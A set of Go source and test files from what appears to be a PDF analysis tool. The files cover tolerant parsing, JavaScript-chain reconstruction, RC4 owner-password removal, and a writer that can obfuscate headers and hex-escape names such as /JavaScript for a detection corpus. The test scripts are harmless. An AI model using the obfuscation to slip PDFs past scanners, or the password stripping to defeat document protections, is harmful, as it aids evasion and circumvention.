				lx.SetPos(end + trimmed + len("endstream"))
				consumeEndobj(lx)
				return src[pos:end], nil
			}
		}
	}
	idx := bytes.Index(src[pos:], []byte("endstream"))
	if idx < 0 {
		// The whole tail was scanned; reflect that in the lexer position so
		// speculative-parse budgets account for the work.
		lx.SetPos(len(src))
		return nil, fmt.Errorf("%w: unterminated stream at %d", ErrParse, pos)
	}
	end := pos + idx
	// Strip the trailing EOL that precedes endstream.
	for end > pos && (src[end-1] == '\n' || src[end-1] == '\r') {
		end--
	}
	lx.SetPos(pos + idx + len("endstream"))
	consumeEndobj(lx)
	return src[pos:end], nil
}

func consumeEndobj(lx *Lexer) {
	save := lx.Pos()
	tok, err := lx.Next()
	if err != nil || tok.Type != TokKeyword || string(tok.Bytes) != "endobj" {
		lx.SetPos(save)
	}
}

// scavenge scans the whole file for "N G obj" markers and parses each hit.
func (p *Parser) scavenge() error {
	src := p.src
	budget := newParseBudget(len(src))
	for i := 0; i+3 < len(src); i++ {
		if src[i] != 'o' || src[i+1] != 'b' || src[i+2] != 'j' {
			continue
		}
		if i+3 < len(src) && isRegular(src[i+3]) {
			continue // part of a longer keyword
		}
		if i > 0 && isRegular(src[i-1]) {
			continue // e.g. "endobj"
		}
		if budget.exhausted() {
			// Keep what was recovered so far instead of burning quadratic
			// time on overlapping unterminated objects.
			break
		}
		start := backtrackObjHeader(src, i)
		if start < 0 {
			continue
		}
		obj, err := p.parseIndirectAt(start, budget)
		if err != nil {
			continue
		}
		if _, exists := p.doc.objects[obj.Num]; !exists {
			p.doc.put(obj)
		}
	}
	// A trailer may still exist even when xref offsets were broken.
	if p.doc.Trailer == nil {
		if idx := bytes.LastIndex(src, []byte("trailer")); idx >= 0 {
			lx := NewLexer(src, idx+len("trailer"))
			op := &objParser{lex: lx, doc: p.doc}
			if obj, err := op.parseObject(0); err == nil {
				if d, ok := obj.(Dict); ok {
					p.doc.Trailer = d
				}
			}
		}
	}
	if p.doc.Trailer == nil {
		p.doc.Trailer = p.synthesizeTrailer()
	}
	return nil
}

// backtrackObjHeader walks backwards from the 'obj' keyword to find "N G".
func backtrackObjHeader(src []byte, objIdx int) int {
	i := objIdx - 1
	skipWSBack := func() {
		for i >= 0 && isWhitespace(src[i]) {
			i--
		}
	}
	digitsBack := func() (int, bool) {
		end := i
		for i >= 0 && src[i] >= '0' && src[i] <= '9' {
			i--
		}
		if i == end {
			return 0, false
		}
		v, err := strconv.Atoi(string(src[i+1 : end+1]))
		return v, err == nil
	}
	skipWSBack()
	if _, ok := digitsBack(); !ok { // generation
		return -1
	}
	skipWSBack()
	if _, ok := digitsBack(); !ok { // object number
		return -1
	}
	return i + 1
}

// synthesizeTrailer builds a trailer for documents missing one by hunting
// for a /Catalog object.
func (p *Parser) synthesizeTrailer() Dict {
	for num, obj := range p.doc.objects {
		d, ok := obj.Object.(Dict)
		if !ok {
			continue
		}
		if t, ok := d.Get("Type").(Name); ok && t == "Catalog" {
			return Dict{"Root": Ref{Num: num, Gen: obj.Gen}}
		}
	}
	return Dict{}
}

// objParser parses one object (possibly nested) from a lexer.
type objParser struct {
	lex *Lexer
	doc *Document
}

const maxParseDepth = 128

func (op *objParser) parseObject(depth int) (Object, error) {
	if depth > maxParseDepth {
		return nil, fmt.Errorf("%w: nesting depth exceeds %d", ErrParse, maxParseDepth)
	}
	tok, err := op.lex.Next()
	if err != nil {
		return nil, err
	}
	return op.parseFromToken(tok, depth)
}

func (op *objParser) parseFromToken(tok Token, depth int) (Object, error) {
	switch tok.Type {
	case TokInteger:
		// Could be "N G R" (reference). Lookahead.
		save := op.lex.Pos()
		genTok, err := op.lex.Next()
		if err == nil && genTok.Type == TokInteger {
			rTok, err2 := op.lex.Next()
			if err2 == nil && rTok.Type == TokKeyword && len(rTok.Bytes) == 1 && rTok.Bytes[0] == 'R' {
				return Ref{Num: int(tok.Int), Gen: int(genTok.Int)}, nil
			}
		}
		op.lex.SetPos(save)
		return Integer(tok.Int), nil
	case TokReal:
		return Real(tok.Real), nil
	case TokString:
		return String{Value: tok.Bytes, Hex: tok.HadHex}, nil
	case TokName:
		return Name(tok.Name), nil
	case TokArrayOpen:
		arr := Array{}
		for {
			t, err := op.lex.Next()
			if err != nil {
				return nil, err
			}
			if t.Type == TokArrayClose {
				return arr, nil
			}
			if t.Type == TokEOF {
				return nil, fmt.Errorf("%w: unterminated array", ErrParse)
			}
			el, err := op.parseFromToken(t, depth+1)
			if err != nil {
				return nil, err
			}
			arr = append(arr, el)
		}
	case TokDictOpen:
		d := Dict{}
		for {
			t, err := op.lex.Next()
			if err != nil {
				return nil, err
			}
			if t.Type == TokDictClose {
				return d, nil
			}
			if t.Type != TokName {
				return nil, fmt.Errorf("%w: dict key must be a name, got %v at %d", ErrParse, t.Type, t.Pos)
			}
			val, err := op.parseObject(depth + 1)
			if err != nil {
				return nil, err
			}
			d[Name(t.Name)] = val
		}
	case TokKeyword:
		switch string(tok.Bytes) {
		case "true":
			return Boolean(true), nil
		case "false":
			return Boolean(false), nil
		case "null":
			return Null{}, nil
		}
		return nil, fmt.Errorf("%w: unexpected keyword %q at %d", ErrParse, tok.Bytes, tok.Pos)
	case TokEOF:
		return nil, fmt.Errorf("%w: unexpected EOF", ErrParse)
	default:
		return nil, fmt.Errorf("%w: unexpected token %v at %d", ErrParse, tok.Type, tok.Pos)
	}
}
