package pdf

import (
	"bytes"
	"strings"
	"testing"
)

// buildSimpleDoc constructs a minimal document: catalog -> pages -> page,
// plus an OpenAction Javascript action whose code lives in a Flate stream.
func buildSimpleDoc(t *testing.T, script string) *Document {
	t.Helper()
	d := NewDocument()
	raw, filterObj, err := EncodeChain([]Name{FilterFlate}, []byte(script))
	if err != nil {
		t.Fatal(err)
	}
	jsData := d.Add(&Stream{Dict: Dict{"Filter": filterObj}, Raw: raw})
	action := d.Add(Dict{"Type": Name("Action"), "S": Name("JavaScript"), "JS": jsData})
	page := d.Add(Dict{"Type": Name("Page")})
	pages := d.Add(Dict{"Type": Name("Pages"), "Kids": Array{page}, "Count": Integer(1)})
	catalog := d.Add(Dict{
		"Type":       Name("Catalog"),
		"Pages":      pages,
		"OpenAction": action,
	})
	d.Trailer["Root"] = catalog
	return d
}

func TestWriteParseRoundTrip(t *testing.T) {
	d := buildSimpleDoc(t, "app.alert('x');")
	data, err := Write(d, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(data, []byte("%PDF-1.7")) {
		t.Errorf("missing header: %q", data[:16])
	}
	parsed, err := Parse(data, ParseOptions{Strict: true})
	if err != nil {
		t.Fatal(err)
	}
	if parsed.Len() != d.Len() {
		t.Errorf("object count = %d, want %d", parsed.Len(), d.Len())
	}
	if parsed.Recovered {
		t.Error("well-formed document should not need recovery")
	}
	if parsed.Header.Obfuscated() {
		t.Error("header should not be obfuscated")
	}
	cat, err := parsed.Catalog()
	if err != nil {
		t.Fatal(err)
	}
	if typ, _ := cat.Get("Type").(Name); typ != "Catalog" {
		t.Errorf("catalog type = %q", typ)
	}
	cs, err := ReconstructChains(parsed)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Chains) != 1 {
		t.Fatalf("chains = %d, want 1", len(cs.Chains))
	}
	if cs.Chains[0].Source != "app.alert('x');" {
		t.Errorf("script = %q", cs.Chains[0].Source)
	}
}

func TestParseHeaderVariants(t *testing.T) {
	tests := []struct {
		name       string
		opts       WriteOptions
		obfuscated bool
		offsetZero bool
	}{
		{"clean", WriteOptions{}, false, true},
		{"junk prefix", WriteOptions{HeaderJunk: []byte("GIF89a junk junk\n")}, true, false},
		{"bad version", WriteOptions{Version: "9.9"}, true, true},
		{"no header", WriteOptions{OmitHeader: true}, true, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := buildSimpleDoc(t, "1;")
			data, err := Write(d, tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			parsed, err := Parse(data, ParseOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if got := parsed.Header.Obfuscated(); got != tt.obfuscated {
				t.Errorf("Obfuscated() = %v, want %v (header %+v)", got, tt.obfuscated, parsed.Header)
			}
			if tt.offsetZero != (parsed.Header.Offset == 0) {
				t.Errorf("offset = %d", parsed.Header.Offset)
			}
		})
	}
}

func TestParseLenientRecoversBrokenXref(t *testing.T) {
	d := buildSimpleDoc(t, "var a=1;")
	data, err := Write(d, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	// Corrupt the startxref offset.
	idx := bytes.LastIndex(data, []byte("startxref"))
	broken := append([]byte{}, data...)
	copy(broken[idx+10:], []byte("99999999"))

	if _, err := Parse(broken, ParseOptions{Strict: true}); err == nil {
		t.Fatal("strict parse should fail on broken xref")
	}
	parsed, err := Parse(broken, ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !parsed.Recovered {
		t.Error("expected Recovered flag")
	}
	if parsed.Len() != d.Len() {
		t.Errorf("recovered %d objects, want %d", parsed.Len(), d.Len())
	}
	if _, err := parsed.Catalog(); err != nil {
		t.Errorf("catalog after recovery: %v", err)
	}
}

func TestParseLyingStreamLength(t *testing.T) {
	// Hand-written document whose /Length is wrong; the parser must fall
	// back to endstream search.
	src := strings.Join([]string{
		"%PDF-1.4",
		"1 0 obj",
		"<< /Length 3 >>",
		"stream",
		"this stream is much longer than three bytes",
		"endstream",
		"endobj",
		"2 0 obj",
		"<< /Type /Catalog >>",
		"endobj",
		"trailer",
		"<< /Root 2 0 R >>",
	}, "\n")
	parsed, err := Parse([]byte(src), ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	obj, ok := parsed.Get(1)
	if !ok {
		t.Fatal("object 1 missing")
	}
	s, ok := obj.Object.(*Stream)
	if !ok {
		t.Fatalf("object 1 is %T", obj.Object)
	}
	if string(s.Raw) != "this stream is much longer than three bytes" {
		t.Errorf("stream body = %q", s.Raw)
	}
}

func TestParseEmptyAndGarbage(t *testing.T) {
	for _, src := range []string{"", "not a pdf at all", "%PDF-1.5\nnothing else"} {
		if _, err := Parse([]byte(src), ParseOptions{}); err == nil {
			t.Errorf("%q: expected parse failure", src)
		}
	}
}

func TestParseReferenceAndLoopResolution(t *testing.T) {
	d := NewDocument()
	// Object 1 refs object 2 which refs object 1: a loop.
	d.Put(IndirectObject{Num: 1, Object: Ref{Num: 2}})
	d.Put(IndirectObject{Num: 2, Object: Ref{Num: 1}})
	if _, isNull := d.Resolve(Ref{Num: 1}).(Null); !isNull {
		t.Error("reference loop should resolve to Null")
	}
	if _, isNull := d.Resolve(Ref{Num: 99}).(Null); !isNull {
		t.Error("dangling reference should resolve to Null")
	}
}

func TestParsePreservesHexNameCount(t *testing.T) {
	d := buildSimpleDoc(t, "x;")
	data, err := Write(d, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	// Splice an obfuscated name into the document by rewriting /JS.
	data = bytes.Replace(data, []byte("/JS "), []byte("/J#53 "), 1)
	parsed, err := Parse(data, ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if parsed.HexNameCount == 0 {
		t.Error("HexNameCount = 0, want > 0")
	}
	cs, err := ReconstructChains(parsed)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Chains) != 1 {
		t.Fatalf("obfuscated /JS key not found: %d chains", len(cs.Chains))
	}
}

func TestWriterXrefOffsetsAreExact(t *testing.T) {
	d := buildSimpleDoc(t, "var q = 'test';")
	data, err := Write(d, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	parsed, err := Parse(data, ParseOptions{Strict: true})
	if err != nil {
		t.Fatalf("strict parse (validates xref offsets): %v", err)
	}
	for _, num := range d.Numbers() {
		if _, ok := parsed.Get(num); !ok {
			t.Errorf("object %d missing after round trip", num)
		}
	}
}

func TestCountEmptyObjects(t *testing.T) {
	d := buildSimpleDoc(t, "x")
	if got := d.CountEmptyObjects(); got != 0 {
		t.Fatalf("empty objects = %d, want 0", got)
	}
	d.Add(Dict{})
	d.Add(Null{})
	d.Add(Array{})
	if got := d.CountEmptyObjects(); got != 3 {
		t.Errorf("empty objects = %d, want 3", got)
	}
}
