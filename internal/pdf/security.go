package pdf

import (
	"crypto/md5"
	"crypto/rc4"
	"errors"
	"fmt"
)

// The standard security handler (revision 2, 40-bit RC4) is implemented so
// the front-end can "remove the owner's password" from view-only documents,
// the step the paper delegates to PDF password recovery tools. A document
// encrypted with only an owner password uses the empty user password, so the
// file key is recoverable from the file itself — which is exactly what makes
// removal trivial.

// ErrEncrypted is returned when an encrypted document cannot be processed.
var ErrEncrypted = errors.New("pdf: unsupported encryption")

// passwordPad is the standard 32-byte padding string from the PDF spec.
var passwordPad = []byte{
	0x28, 0xBF, 0x4E, 0x5E, 0x4E, 0x75, 0x8A, 0x41,
	0x64, 0x00, 0x4E, 0x56, 0xFF, 0xFA, 0x01, 0x08,
	0x2E, 0x2E, 0x00, 0xB6, 0xD0, 0x68, 0x3E, 0x80,
	0x2F, 0x0C, 0xA9, 0xFE, 0x64, 0x53, 0x69, 0x7A,
}

func padPassword(pw []byte) []byte {
	out := make([]byte, 32)
	n := copy(out, pw)
	copy(out[n:], passwordPad)
	return out
}

// ownerHash computes the /O entry from the owner password (empty user
// password assumed for view-only docs).
func ownerHash(ownerPw []byte) []byte {
	sum := md5.Sum(padPassword(ownerPw))
	key := sum[:5]
	c, _ := rc4.NewCipher(key)
	out := make([]byte, 32)
	c.XORKeyStream(out, padPassword(nil)) // empty user password padded
	return out
}

// fileKey derives the 40-bit file encryption key (revision 2) from the user
// password, /O entry, /P flags and the first document ID string.
func fileKey(userPw, oEntry []byte, perms int32, id []byte) []byte {
	h := md5.New()
	h.Write(padPassword(userPw))
	h.Write(oEntry)
	h.Write([]byte{byte(perms), byte(perms >> 8), byte(perms >> 16), byte(perms >> 24)})
	h.Write(id)
	sum := h.Sum(nil)
	return sum[:5]
}

// userHash computes the /U entry for revision 2: RC4 of the padding string
// with the file key.
func userHash(key []byte) []byte {
	c, _ := rc4.NewCipher(key)
	out := make([]byte, 32)
	c.XORKeyStream(out, passwordPad)
	return out
}

// objectKey derives the per-object RC4 key.
func objectKey(fileKey []byte, num, gen int) []byte {
	h := md5.New()
	h.Write(fileKey)
	h.Write([]byte{byte(num), byte(num >> 8), byte(num >> 16)})
	h.Write([]byte{byte(gen), byte(gen >> 8)})
	sum := h.Sum(nil)
	n := len(fileKey) + 5
	if n > 16 {
		n = 16
	}
	return sum[:n]
}

func rc4Apply(key, data []byte) []byte {
	c, _ := rc4.NewCipher(key)
	out := make([]byte, len(data))
	c.XORKeyStream(out, data)
	return out
}

const ownerOnlyPerms int32 = -44 // print+view allowed, modify denied

// EncryptOwner encrypts the document in place with an owner-only password
// (empty user password), mimicking "readable but non-modifiable" mode. The
// document gains /Encrypt in the trailer and an /ID.
func EncryptOwner(d *Document, ownerPw string) error {
	if d.Trailer == nil {
		d.Trailer = Dict{}
	}
	if _, exists := d.Trailer["Encrypt"]; exists {
		return fmt.Errorf("%w: already encrypted", ErrEncrypted)
	}
	id := md5.Sum([]byte(ownerPw + "/pdfshield-id"))
	o := ownerHash([]byte(ownerPw))
	key := fileKey(nil, o, ownerOnlyPerms, id[:])
	u := userHash(key)

	transformStringsAndStreams(d, key)

	encRef := d.Add(Dict{
		"Filter": Name("Standard"),
		"V":      Integer(1),
		"R":      Integer(2),
		"O":      String{Value: o, Hex: true},
		"U":      String{Value: u, Hex: true},
		"P":      Integer(ownerOnlyPerms),
	})
	d.Trailer["Encrypt"] = encRef
	d.Trailer["ID"] = Array{
		String{Value: id[:], Hex: true},
		String{Value: id[:], Hex: true},
	}
	return nil
}

// IsEncrypted reports whether the trailer declares encryption.
func (d *Document) IsEncrypted() bool {
	return d.Trailer != nil && d.Trailer.Get("Encrypt") != nil
}

// RemoveOwnerPassword strips owner-only encryption in place: it derives the
// file key from the empty user password, decrypts every string and stream,
// and removes /Encrypt. It fails when a non-empty user password is required
// (the /U check does not validate against the empty password).
func RemoveOwnerPassword(d *Document) error {
	if !d.IsEncrypted() {
		return nil
	}
	enc, ok := d.ResolveDict(d.Trailer.Get("Encrypt"))
	if !ok {
		return fmt.Errorf("%w: /Encrypt unresolvable", ErrEncrypted)
	}
	if f, _ := enc.Get("Filter").(Name); f != "Standard" {
		return fmt.Errorf("%w: handler %q", ErrEncrypted, f)
	}
	if r, _ := enc.Get("R").(Integer); r != 2 {
		return fmt.Errorf("%w: revision %d", ErrEncrypted, r)
	}
	oStr, ok := enc.Get("O").(String)
	if !ok {
		return fmt.Errorf("%w: missing /O", ErrEncrypted)
	}
	perms, _ := enc.Get("P").(Integer)
	var id []byte
	if arr, ok := d.Resolve(d.Trailer.Get("ID")).(Array); ok && len(arr) > 0 {
		if s, ok := arr[0].(String); ok {
			id = s.Value
		}
	}
	key := fileKey(nil, oStr.Value, int32(perms), id)
	if u, ok := enc.Get("U").(String); ok {
		if string(userHash(key)) != string(u.Value) {
			return fmt.Errorf("%w: user password required", ErrEncrypted)
		}
	}

	encRefNum := -1
	if ref, ok := d.Trailer.Get("Encrypt").(Ref); ok {
		encRefNum = ref.Num
	}
	transformStringsAndStreamsExcept(d, key, encRefNum)

	delete(d.Trailer, "Encrypt")
	if encRefNum >= 0 {
		d.Delete(encRefNum)
	}
	return nil
}

func transformStringsAndStreams(d *Document, key []byte) {
	transformStringsAndStreamsExcept(d, key, -1)
}

// transformStringsAndStreamsExcept RC4s every string and stream body with
// its per-object key (RC4 is symmetric, so this both encrypts and decrypts).
func transformStringsAndStreamsExcept(d *Document, key []byte, skipNum int) {
	for _, num := range d.Numbers() {
		if num == skipNum {
			continue
		}
		obj := d.objects[num]
		ok := objectKey(key, obj.Num, obj.Gen)
		obj.Object = cryptObject(obj.Object, ok)
		d.objects[num] = obj
	}
}

func cryptObject(obj Object, key []byte) Object {
	switch v := obj.(type) {
	case String:
		return String{Value: rc4Apply(key, v.Value), Hex: v.Hex}
	case Array:
		out := make(Array, len(v))
		for i, el := range v {
			out[i] = cryptObject(el, key)
		}
		return out
	case Dict:
		out := make(Dict, len(v))
		for k, el := range v {
			out[k] = cryptObject(el, key)
		}
		return out
	case *Stream:
		return &Stream{
			Dict: cryptObject(v.Dict, key).(Dict),
			Raw:  rc4Apply(key, v.Raw),
		}
	default:
		return obj
	}
}
