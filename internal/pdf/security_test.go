package pdf

import (
	"testing"
)

func TestEncryptOwnerAndRemove(t *testing.T) {
	d := buildSimpleDoc(t, "app.alert('secret');")
	if err := EncryptOwner(d, "owner-pass"); err != nil {
		t.Fatal(err)
	}
	if !d.IsEncrypted() {
		t.Fatal("document should report encrypted")
	}

	// Chains must be unreadable while encrypted (the script bytes are RC4'd
	// so the Flate layer fails or decodes to junk).
	cs, err := ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Chains) == 1 && cs.Chains[0].Source == "app.alert('secret');" {
		t.Error("script should not be readable before password removal")
	}

	if err := RemoveOwnerPassword(d); err != nil {
		t.Fatal(err)
	}
	if d.IsEncrypted() {
		t.Error("encryption survived removal")
	}
	cs, err = ReconstructChains(d)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Chains) != 1 {
		t.Fatalf("chains = %d", len(cs.Chains))
	}
	if cs.Chains[0].Source != "app.alert('secret');" {
		t.Errorf("recovered script = %q", cs.Chains[0].Source)
	}
}

func TestEncryptOwnerRoundTripThroughBytes(t *testing.T) {
	d := buildSimpleDoc(t, "var v = 42;")
	if err := EncryptOwner(d, "pw"); err != nil {
		t.Fatal(err)
	}
	data, err := Write(d, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	parsed, err := Parse(data, ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !parsed.IsEncrypted() {
		t.Fatal("parsed document should be encrypted")
	}
	if err := RemoveOwnerPassword(parsed); err != nil {
		t.Fatal(err)
	}
	cs, err := ReconstructChains(parsed)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Chains) != 1 || cs.Chains[0].Source != "var v = 42;" {
		t.Errorf("chains after byte round trip = %+v", cs.Chains)
	}
}

func TestRemoveOwnerPasswordOnPlainDocIsNoop(t *testing.T) {
	d := buildSimpleDoc(t, "x")
	if err := RemoveOwnerPassword(d); err != nil {
		t.Fatal(err)
	}
	if d.IsEncrypted() {
		t.Error("plain document became encrypted?")
	}
}

func TestDoubleEncryptRejected(t *testing.T) {
	d := buildSimpleDoc(t, "x")
	if err := EncryptOwner(d, "a"); err != nil {
		t.Fatal(err)
	}
	if err := EncryptOwner(d, "b"); err == nil {
		t.Error("double encryption should fail")
	}
}

func TestRemoveRejectsUserPassword(t *testing.T) {
	d := buildSimpleDoc(t, "x")
	if err := EncryptOwner(d, "pw"); err != nil {
		t.Fatal(err)
	}
	// Corrupt /U so the empty-user-password check fails, simulating a doc
	// that genuinely needs a user password.
	enc, _ := d.ResolveDict(d.Trailer.Get("Encrypt"))
	u := enc.Get("U").(String)
	u.Value[0] ^= 0xff
	if err := RemoveOwnerPassword(d); err == nil {
		t.Error("expected user-password-required error")
	}
}
