package pdf

import (
	"bytes"
	"fmt"
	"strconv"
)

// WriteOptions tunes serialization.
type WriteOptions struct {
	// HeaderJunk is prepended before the %PDF- header (header obfuscation
	// for the corpus generator). Must be shorter than the 1024-byte window
	// for the file to remain openable.
	HeaderJunk []byte
	// Version overrides the header version string (e.g. "1.7"); when the
	// document header carries a version it is used by default.
	Version string
	// OmitHeader drops the %PDF- line entirely (aggressive obfuscation).
	OmitHeader bool
	// BinaryComment emits the conventional binary-marker comment line.
	BinaryComment bool
}

// Write serializes the document with a classic cross-reference table.
// Stream /Length entries are recomputed. Object numbers are preserved.
func Write(d *Document, opts WriteOptions) ([]byte, error) {
	buf := getBuf()
	defer putBuf(buf)
	if len(opts.HeaderJunk) > 0 {
		buf.Write(opts.HeaderJunk)
	}
	if !opts.OmitHeader {
		version := opts.Version
		if version == "" {
			version = d.Header.Version
		}
		if version == "" {
			version = "1.7"
		}
		buf.WriteString("%PDF-")
		buf.WriteString(version)
		buf.WriteByte('\n')
		if opts.BinaryComment {
			buf.Write([]byte{'%', 0xe2, 0xe3, 0xcf, 0xd3, '\n'})
		}
	}

	nums := d.Numbers()
	offsets := make(map[int]int, len(nums))
	for _, num := range nums {
		obj := d.objects[num]
		offsets[num] = buf.Len()
		buf.WriteString(strconv.Itoa(num))
		buf.WriteByte(' ')
		buf.WriteString(strconv.Itoa(obj.Gen))
		buf.WriteString(" obj\n")
		if err := writeBody(buf, obj.Object); err != nil {
			return nil, fmt.Errorf("object %d: %w", num, err)
		}
		buf.WriteString("\nendobj\n")
	}

	xrefOff := buf.Len()
	writeXref(buf, nums, offsets)

	trailer := d.Trailer
	if trailer == nil {
		trailer = Dict{}
	}
	trailer = trailer.Clone()
	trailer["Size"] = Integer(d.maxNum + 1)
	delete(trailer, "Prev")
	buf.WriteString("trailer\n")
	if err := writeBody(buf, trailer); err != nil {
		return nil, fmt.Errorf("trailer: %w", err)
	}
	buf.WriteString("\nstartxref\n")
	buf.WriteString(strconv.Itoa(xrefOff))
	buf.WriteString("\n%%EOF\n")
	return copyBytes(buf), nil
}

// writeXref emits xref subsections, coalescing contiguous object numbers.
func writeXref(buf *bytes.Buffer, nums []int, offsets map[int]int) {
	buf.WriteString("xref\n")
	buf.WriteString("0 1\n")
	buf.WriteString("0000000000 65535 f \n")
	i := 0
	for i < len(nums) {
		j := i
		for j+1 < len(nums) && nums[j+1] == nums[j]+1 {
			j++
		}
		fmt.Fprintf(buf, "%d %d\n", nums[i], j-i+1)
		for k := i; k <= j; k++ {
			fmt.Fprintf(buf, "%010d %05d n \n", offsets[nums[k]], 0)
		}
		i = j + 1
	}
}

func writeBody(buf *bytes.Buffer, obj Object) error {
	switch v := obj.(type) {
	case *Stream:
		dict := v.Dict.Clone()
		dict["Length"] = Integer(len(v.Raw))
		writeValue(buf, dict)
		buf.WriteString("\nstream\n")
		buf.Write(v.Raw)
		buf.WriteString("\nendstream")
		return nil
	default:
		writeValue(buf, obj)
		return nil
	}
}

func writeValue(buf *bytes.Buffer, obj Object) {
	switch v := obj.(type) {
	case nil, Null:
		buf.WriteString("null")
	case Boolean:
		if v {
			buf.WriteString("true")
		} else {
			buf.WriteString("false")
		}
	case Integer:
		buf.WriteString(strconv.FormatInt(int64(v), 10))
	case Real:
		buf.WriteString(formatReal(float64(v)))
	case String:
		buf.Write(encodeString(v))
	case Name:
		buf.Write(EncodeName(string(v), false))
	case ObfuscatedName:
		buf.Write(EncodeNameObfuscated(v.Value, v.EscapeOffsets, v.ExtraHashes))
	case Array:
		buf.WriteByte('[')
		for i, el := range v {
			if i > 0 {
				buf.WriteByte(' ')
			}
			writeValue(buf, el)
		}
		buf.WriteByte(']')
	case Dict:
		buf.WriteString("<< ")
		for _, k := range v.SortedKeys() {
			buf.Write(EncodeName(string(k), false))
			buf.WriteByte(' ')
			writeValue(buf, v[k])
			buf.WriteByte(' ')
		}
		buf.WriteString(">>")
	case ObfuscatedDict:
		buf.WriteString("<< ")
		for _, entry := range v.Entries {
			buf.Write(EncodeNameObfuscated(entry.Key, entry.EscapeOffsets, entry.ExtraHashes))
			buf.WriteByte(' ')
			writeValue(buf, entry.Value)
			buf.WriteByte(' ')
		}
		buf.WriteString(">>")
	case Ref:
		buf.WriteString(v.String())
	default:
		fmt.Fprintf(buf, "%%unknown %T", obj)
	}
}

// ObfuscatedName is a name that serializes with specific characters
// hex-escaped (the /JavaScr#69pt trick). It behaves as its decoded Value for
// all parsing purposes; it exists only on the write path for the corpus
// generator.
type ObfuscatedName struct {
	Value         string
	EscapeOffsets []int
	ExtraHashes   int
}

// Kind implements Object.
func (ObfuscatedName) Kind() Kind { return KindName }

// ObfuscatedDictEntry is one key/value pair with write-time key escaping.
type ObfuscatedDictEntry struct {
	Key           string
	EscapeOffsets []int
	ExtraHashes   int
	Value         Object
}

// ObfuscatedDict is a dictionary that serializes selected keys with hex
// escapes and preserves entry order. Write-path only.
type ObfuscatedDict struct {
	Entries []ObfuscatedDictEntry
}

// Kind implements Object.
func (ObfuscatedDict) Kind() Kind { return KindDict }
