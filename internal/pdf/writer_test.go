package pdf

import (
	"bytes"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

// randomObject builds a random PDF object of bounded depth.
func randomObject(rng *rand.Rand, depth int) Object {
	if depth <= 0 {
		switch rng.Intn(5) {
		case 0:
			return Null{}
		case 1:
			return Boolean(rng.Intn(2) == 0)
		case 2:
			return Integer(rng.Int63n(1<<40) - (1 << 39))
		case 3:
			return String{Value: randomBytes(rng, 12), Hex: rng.Intn(2) == 0}
		default:
			return Name(randomName(rng))
		}
	}
	switch rng.Intn(7) {
	case 0:
		n := rng.Intn(4)
		arr := make(Array, n)
		for i := range arr {
			arr[i] = randomObject(rng, depth-1)
		}
		return arr
	case 1:
		d := Dict{}
		for i := 0; i < rng.Intn(4); i++ {
			d[Name(randomName(rng))] = randomObject(rng, depth-1)
		}
		return d
	default:
		return randomObject(rng, 0)
	}
}

func randomBytes(rng *rand.Rand, n int) []byte {
	out := make([]byte, rng.Intn(n+1))
	for i := range out {
		out[i] = byte(rng.Intn(256))
	}
	return out
}

func randomName(rng *rand.Rand) string {
	const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789#/() "
	n := 1 + rng.Intn(10)
	out := make([]byte, n)
	for i := range out {
		out[i] = letters[rng.Intn(len(letters))]
	}
	return string(out)
}

// objectsEqual compares two objects structurally, ignoring the Hex flag on
// strings (a serialization preference, not content).
func objectsEqual(a, b Object) bool {
	switch av := a.(type) {
	case nil, Null:
		_, ok1 := b.(Null)
		return ok1 || b == nil
	case Boolean:
		bv, ok := b.(Boolean)
		return ok && av == bv
	case Integer:
		bv, ok := b.(Integer)
		return ok && av == bv
	case Real:
		bv, ok := b.(Real)
		return ok && av == bv
	case String:
		bv, ok := b.(String)
		return ok && bytes.Equal(av.Value, bv.Value)
	case Name:
		bv, ok := b.(Name)
		return ok && av == bv
	case Array:
		bv, ok := b.(Array)
		if !ok || len(av) != len(bv) {
			return false
		}
		for i := range av {
			if !objectsEqual(av[i], bv[i]) {
				return false
			}
		}
		return true
	case Dict:
		bv, ok := b.(Dict)
		if !ok || len(av) != len(bv) {
			return false
		}
		for k, v := range av {
			if !objectsEqual(v, bv[k]) {
				return false
			}
		}
		return true
	case *Stream:
		bv, ok := b.(*Stream)
		if !ok || !bytes.Equal(av.Raw, bv.Raw) {
			return false
		}
		// The writer recomputes /Length; ignore it on both sides.
		ad, bd := av.Dict.Clone(), bv.Dict.Clone()
		delete(ad, "Length")
		delete(bd, "Length")
		return objectsEqual(ad, bd)
	case Ref:
		bv, ok := b.(Ref)
		return ok && av == bv
	default:
		return reflect.DeepEqual(a, b)
	}
}

func TestWriterRandomDocumentRoundTripProperty(t *testing.T) {
	prop := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		d := NewDocument()
		n := 1 + rng.Intn(12)
		bodies := make([]Object, n)
		for i := 0; i < n; i++ {
			var body Object
			if rng.Intn(4) == 0 {
				body = &Stream{
					Dict: Dict{"K": Integer(int64(i))},
					Raw:  randomBytes(rng, 64),
				}
			} else {
				body = randomObject(rng, 3)
			}
			bodies[i] = body
			d.Add(body)
		}
		catalog := d.Add(Dict{"Type": Name("Catalog")})
		d.Trailer["Root"] = catalog

		data, err := Write(d, WriteOptions{})
		if err != nil {
			return false
		}
		parsed, err := Parse(data, ParseOptions{Strict: true})
		if err != nil {
			t.Logf("seed %d: parse failed: %v", seed, err)
			return false
		}
		if parsed.Len() != d.Len() {
			return false
		}
		for i, want := range bodies {
			got, ok := parsed.Get(i + 1)
			if !ok || !objectsEqual(want, got.Object) {
